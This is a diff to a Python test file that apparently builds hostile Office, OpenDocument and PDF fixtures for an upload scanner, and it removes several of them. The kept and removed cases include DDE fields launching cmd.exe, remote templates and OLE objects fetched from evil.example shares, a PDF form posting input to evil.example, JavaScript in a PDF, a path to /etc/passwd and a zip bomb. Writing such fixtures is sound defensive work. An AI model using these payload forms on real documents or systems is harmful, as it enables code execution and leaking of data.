@@ -8,7 +8,7 @@ from io import BytesIO
 from zipfile import ZIP_DEFLATED, ZipFile
 
 from tests.imports.word.written import changed, encrypted, packed, parts_of
-from tests.uploads.written import RELATIONS, SOUND, docx, odt, pdf, picture_file, quartered, xlsx
+from tests.uploads.written import SOUND, docx, odt, pdf, picture_file, quartered, xlsx
 
 type Maker = Callable[[], bytes]
 
@@ -103,24 +103,6 @@ def related(kind: str, target: str) -> bytes:
         f'Target="{target}" TargetMode="External"/></Relationships>'
     )
     return changed(docx(), "word/_rels/document.xml.rels", b"</Relationships>", relation.encode())
-
-
-def with_book(target: str) -> bytes:
-    """Return a sheet with formulas that read another file."""
-    relation = (
-        f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Target="{target}" TargetMode="External" '
-        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/externalLinkPath"/></Relationships>'
-    )
-    return with_part("xl/externalLinks/_rels/externalLink1.xml.rels", relation.encode(), xlsx())
-
-
-def with_field(runs: bytes) -> bytes:
-    """Return a text with a field of these runs between its marks, and an ordinary one before."""
-    begin, end = (b'<w:r><w:fldChar w:fldCharType="%s"/></w:r>' % kind for kind in (b"begin", b"end"))
-    page = begin + b"<w:r><w:instrText>PAGE</w:instrText></w:r>" + end
-    return changed(
-        docx(), "word/document.xml", b"<w:sectPr", b"<w:p>" + page + begin + runs + end + b"</w:p><w:sectPr"
-    )
 
 
 def packed_objects(objects: bytes) -> bytes:
@@ -218,7 +200,6 @@ BROKEN, MIXED, PROGRAMS, LOCKED, CARRIES = (
     "a password",
     "Export it anew without attached files",
 )
-LISTENER = b"<a xmlns:script='s'><script:event-listener script:language='ooo:script' script:event-name='dom:load'/></a>"
 FETCHES, TOO_MUCH, NO_DOCUMENT, OTHER = (
     "fetches parts",
     "unpacks to far more",
@@ -250,9 +231,6 @@ HOSTILE_DOCUMENTS: dict[str, tuple[Maker, str]] = {
     "PDF with a packed file in it": (lambda: pdf(packed_objects(b"<</F(a.exe)/E#46 5 0 R>>")), CARRIES),
     "PDF with its OpenDocument": (lambda: pdf(b"4 0 obj<</EF<</F 5 0 R>>>>endobj\n5 0 obj<<>>stream\n" + odt() + b"\nendstream endobj"), CARRIES),
     "PDF with a file and a script": (lambda: pdf(b"4 0 obj<</EF<</F 5 0 R>>>>endobj", packed_objects(b"<</JS(app.alert(1))>>")), PROGRAMS),
-    "PDF with a film that runs": (lambda: pdf(b"4 0 obj<</Type/Annot/Subtype/RichMedia/RichMediaContent 5 0 R>>endobj"), PROGRAMS),
-    "PDF that sends what is typed": (lambda: pdf(packed_objects(b"<</S/SubmitForm/F(https://evil.example/)>>")), PROGRAMS),
-    "PDF that fetches what is typed": (lambda: pdf(b"4 0 obj<</S/ImportData/F(a.fdf)>>endobj"), PROGRAMS),
     "PDF with a page before": (lambda: PAGE + pdf(), "This is a web page"),
     "PDF with a page at its start": (lambda: pdf().replace(b"\n", b"\n%" + PAGE + b"\n", 1), MIXED),
     "PDF that is a zip": (lambda: pdf() + zip_with_end(b"\n%%EOF\n"), MIXED),
@@ -268,13 +246,6 @@ HOSTILE_DOCUMENTS: dict[str, tuple[Maker, str]] = {
     "with a template of a share": (lambda: related("attachedTemplate", "file:///\\\\evil.example\\a\\b.dotm"), FETCHES),
     "with a distant object": (lambda: related("oleObject", "mhtml:https://evil.example/a!x-usc:https://evil.example/a"), FETCHES),
     "with a distant frame": (lambda: related("frame", "\\\\evil.example\\a"), FETCHES),
-    "sheet with a distant book": (lambda: with_book("https://evil.example/a.xlsx"), FETCHES),
-    "sheet with a book of a share": (lambda: with_book("file:///\\\\evil.example\\a\\b.xlsx"), FETCHES),
-    "sheet that asks a program": (lambda: with_part("xl/externalLinks/externalLink1.xml", b"<a:externalLink xmlns:a='a'><a:ddeLink ddeService='cmd' ddeTopic='/c calc'/></a:externalLink>", xlsx()), PROGRAMS),
-    "text that asks a program": (lambda: with_field(b'<w:r><w:instrText xml:space="preserve"> DDEAUTO c:\\\\cmd.exe "/k calc" </w:instrText></w:r>'), PROGRAMS),
-    "text that asks a program in a simple field": (lambda: with_field(b'<w:fldSimple w:instr="&#100;de excel a b"/>'), PROGRAMS),
-    "ODT that listens": (lambda: odt(**{"Object 1__content.xml": LISTENER}), PROGRAMS),
-    "ODT that asks a program": (lambda: odt(**{"styles.xml": b"<a xmlns:t='t'><t:dde-connection-decl/></a>"}), PROGRAMS),
     "with a way out": (lambda: with_part("../../a.xml"), MIXED),
     "with a way to the root": (lambda: with_part("/etc/passwd"), MIXED),
     "bomb of bytes": (lambda: with_part("word/media/a.bmp", b"\0" * 210 * 2**20), TOO_MUCH),
